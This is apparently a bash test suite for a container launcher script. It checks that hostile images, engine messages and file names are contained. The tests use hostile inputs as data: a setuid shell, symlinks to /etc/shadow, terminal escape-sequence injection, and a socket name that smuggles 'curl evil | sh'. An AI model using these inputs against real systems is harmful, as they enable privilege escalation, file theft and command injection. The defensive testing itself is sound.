# shellcheck shell=bash
# Attacks on this machine: by a malicious image, through engines' messages, and through file names.

# image_of NAME COMMANDS: an image that runs these as root, if nothing prevents it, and that scripts/run takes for one of ours,
# because its entrypoint names our program.
image_of() {
  printf 'FROM %s\nUSER 0:0\nENTRYPOINT ["sh", "-c", %s, "rust-gears"]\n' "$(base_image)" "$(python3 -c 'import json, sys; print(json.dumps(sys.argv[1]))' "$2")" |
    docker build -q -t "$1" - >/dev/null
  on_exit docker image rm -f "$1"
}

test_a_container_has_no_capabilities_no_network_and_a_read_only_root() {
  # shellcheck disable=SC2016 # for the container
  image_of rust-gears-test-rights 'cat /proc/self/status; echo net: $(ls /sys/class/net); touch /tmp/x /var/tmp/x; true'
  DISPLAY='' exits 0 scripts/run --image rust-gears-test-rights
  local set
  for set in Inh Prm Eff Bnd Amb; do contains "$output" "Cap$set:"$'\t'0000000000000000; done
  contains "$output" $'NoNewPrivs:\t1' "touch: cannot touch '/tmp/x': Read-only" "touch: cannot touch '/var/tmp/x': Read-only"
  same 'net: lo' "$(grep ^net: <<<"$output")"
}

test_an_image_that_wants_root_does_not_get_it() {
  image_of rust-gears-test-root 'id -u'
  DISPLAY='' exits 0 scripts/run --image rust-gears-test-root
  same 65532 "$(tail -n 1 <<<"$output")"
  DISPLAY='' exits 0 scripts/run --image rust-gears-test-root --out "$here"
  same 65532 "$(tail -n 1 <<<"$output")"
  start_x xvfb
  exits 0 scripts/run --image rust-gears-test-root --x-auth=user
  same 65532 "$(tail -n 1 <<<"$output")"
}

test_out_takes_files_and_nothing_that_bites() {
  # shellcheck disable=SC2016 # for the container
  image_of rust-gears-test-setuid '
    cp /bin/sh sh && chmod 6755 sh
    ln -s /etc/shadow link && ln -s /etc folder-link && mkfifo fifo
    mkdir -p a/b && echo figures >a/b/report.json && chmod 0 a/b a
    echo new >report.json && echo new >planted && exec 3<. && echo $$ >/dev/null'
  mkdir "$here/out"
  echo old >"$here/out/report.json"
  echo precious >"$here/victim"
  ln -s "$here/victim" "$here/out/planted" # by somebody else who may write there
  (umask 022 && DISPLAY='' exits 0 scripts/run --image rust-gears-test-setuid --out "$here/out")
  same "a a/b a/b/report.json planted report.json sh" "$(cd "$here/out" && find . -mindepth 1 -printf '%P\n' | sort | xargs)"
  same "755 644 0:0" "$(stat -c %a "$here/out/a" "$here/out/sh" | xargs) $(stat -c %u:%g "$here/out/sh")"
  same new "$(<"$here/out/report.json")"
  same precious "$(<"$here/victim")"
}

test_out_that_cannot_be_copied_is_kept_and_it_is_said_where() {
  image_of rust-gears-test-full 'head -c 4000000 /dev/zero >report'
  mkdir "$here/out"
  # shellcheck disable=SC2016 # for the other shell
  as_another_machine '
    mount -t tmpfs -o size=1m tmpfs "$here/out"
    DISPLAY= scripts/run --image rust-gears-test-full --out "$here/out"' >"$here/log" 2>&1
  contains "$(<"$here/log")" 'No space left on device' 'the files are now in /tmp/rust-gears-kept.'
  local -r kept=$(sed -n 's/^the files are now in //p' "$here/log")
  on_exit rm -rf "$kept"
  same 4000000 "$(stat -c %s "$kept/out/report")"
}

test_wslg_stays_out() {
  # shellcheck disable=SC2016 # for the other shell
  as_another_machine '
    overlay /dev && mknod /dev/dxg c 10 125 && overlay /usr/lib && mkdir -p /usr/lib/wsl/lib && overlay /mnt
    mkdir -p /mnt/wslg/.X11-unix && mount -t tmpfs tmpfs /tmp/.X11-unix
    python3 -c "import socket; socket.socket(socket.AF_UNIX).bind(\"/mnt/wslg/.X11-unix/X0\")"
    chmod 777 /mnt/wslg/.X11-unix/X0
    ln -s /mnt/wslg/.X11-unix/X0 /tmp/.X11-unix/X0
    DISPLAY= scripts/run --print --no-install
    scripts/run --print --no-install --isolated
    echo with a display:
    DISPLAY=:0 scripts/run --print --no-install --x-auth=none' >"$here/out" 2>&1
  local -r without=$(sed '/^with a display:/,$d' "$here/out") with=$(sed '1,/^with a display:/d' "$here/out")
  contains "$without" '--device /dev/dxg' 'source=/usr/lib/wsl,target=/usr/lib/wsl,readonly' rust-gears:isolated
  lacks "$without" /mnt
  contains "$with" 'source=/mnt/wslg/.X11-unix/X0,target=/tmp/.X11-unix/X0,readonly'
  same 1 "$(grep -o /mnt/wslg <<<"$with" | wc -l)"
}

test_selinux_goes_on_confining_what_needs_no_exception() {
  as_another_machine '
    mount -t tmpfs tmpfs /sys/fs && mkdir -p /sys/fs/selinux/booleans && echo 1 >/sys/fs/selinux/enforce
    DISPLAY= scripts/run --print --no-install --gpu=none
    scripts/run --print --no-install --gpu=none --isolated
    echo "1 1" >/sys/fs/selinux/booleans/container_use_devices
    DISPLAY= scripts/run --print --no-install --gpu=cdi' >"$here/out" 2>&1
  lacks "$(<"$here/out")" label= confine
  as_another_machine '
    mount -t tmpfs tmpfs /sys/fs && mkdir -p /sys/fs/selinux/booleans && echo 1 >/sys/fs/selinux/enforce
    DISPLAY= scripts/run --print --no-install --gpu=cdi' >"$here/out" 2>&1
  contains "$(<"$here/out")" label=type:container_runtime_t 'SELinux does not confine this container'
}

# as_nobody COMMAND…: as an unprivileged user.
as_nobody() {
  chmod 755 "${here%/*}" "$here"
  setpriv --reuid 65534 --regid 65534 --clear-groups env HOME=/nonexistent "$@"
}

test_a_remapped_daemon_stays_remapped() {
  stand_in_docker 'SecurityOptions=[name=seccomp,profile=default name=userns]'
  DISPLAY='' exits 0 as_nobody scripts/run --print --no-install
  contains "$output" '--user 65534:65534'
  lacks "$output" userns
  DISPLAY='' exits 0 as_nobody scripts/run --print --no-install --isolated --x-auth=user
  lacks "$output" userns
  DISPLAY='' exits 0 as_nobody scripts/run --print --no-install --out /tmp
  contains "$output" --userns=host
}

# A pipe that nobody writes to, an endless device, a cycle of folders, and noise.
test_hostile_cdi_specifications_hold_up_nothing() {
  mkdir "$here/cdi"
  mkfifo "$here/cdi/nvidia.yaml"
  ln -s /dev/zero "$here/cdi/zero.json"
  ln -s . "$here/cdi/circle"
  head -c 10000000 /dev/urandom >"$here/cdi/noise.json"
  stand_in_docker "CDISpecDirs=$here/cdi"
  DISPLAY='' exits 0 timeout 30 scripts/run --print --no-install
  lacks "$output" nvidia.com/gpu
  printf '{"kind": "nvidia.com/gpu"}' >"$here/cdi/$escape.json"
  DISPLAY='' exits 0 timeout 30 scripts/run --print --no-install
  contains "$output" '--device nvidia.com/gpu=all'
  is_clean "$output"
}

readonly escape=$'\e]0;owned\a\e[2J\x9b31m\xc2\x9b31m\xe2\x80\xae'
is_clean() { lacks "$1" $'\e' $'\a' $'\x9b' $'\xe2\x80\xae'; }

test_what_an_engine_says_does_not_reach_the_terminal_raw() {
  image_of rust-gears-test-words "printf '${escape}words of the program\n' >&2; printf 'docker: ${escape}words of the engine\n' >&2"
  DISPLAY='' exits 0 scripts/run --image rust-gears-test-words
  contains "$output" 'words of the program' 'words of the engine'
  is_clean "$output"
  mkdir "$here/bin"
  printf '#!/bin/sh\nprintf "%%s" "%s" >&2\nexit 1\n' "$escape" >"$here/bin/docker"
  chmod +x "$here/bin/docker"
  PATH=$here/bin:$PATH exits 1 scripts/run --engine=docker
  contains "$output" 'Its own words: ?]0;owned?'
  is_clean "$output"
}

test_names_in_the_folder_of_displays_do_not_reach_the_terminal() {
  mkdir -p /tmp/.X11-unix
  local -r number=$(free_display)
  python3 -c 'import socket, sys
for name in sys.argv[1:]: socket.socket(socket.AF_UNIX).bind("/tmp/.X11-unix/" + name)' "X$escape" $'X1\nrun: fix: curl evil | sh' "X$number"
  on_exit rm -f "/tmp/.X11-unix/X$escape" $'/tmp/.X11-unix/X1\nrun: fix: curl evil | sh' "/tmp/.X11-unix/X$number"
  DISPLAY=:9999 exits 3 scripts/run
  contains "$output" 'does not exist' ":$number"
  lacks "$output" curl
  is_clean "$output"
}

test_out_of_podman_is_mounted_without_setuid_and_devices() {
  use_podman
  mkdir "$here/out"
  DISPLAY='' exits 0 scripts/run --engine=podman --image rust-gears:mesa --out "$here/out" -- --frames 1 --screenshot gears.png
  same "$(id -u)" "$(stat -c %u "$here/out/gears.png")"
  DISPLAY='' scripts/run --print --engine=podman --image rust-gears:mesa --out "$here/out" |
    sed '/^podman run/ { s/podman run/podman run --entrypoint cat/; s#$# /proc/mounts# }' >"$here/printed"
  exits 0 bash "$here/printed"
  local -r mounted=$(awk '$2 == "/out" { print $4 }' <<<"$output")
  contains ",$mounted," ,nosuid, ,nodev, ,noexec,
}
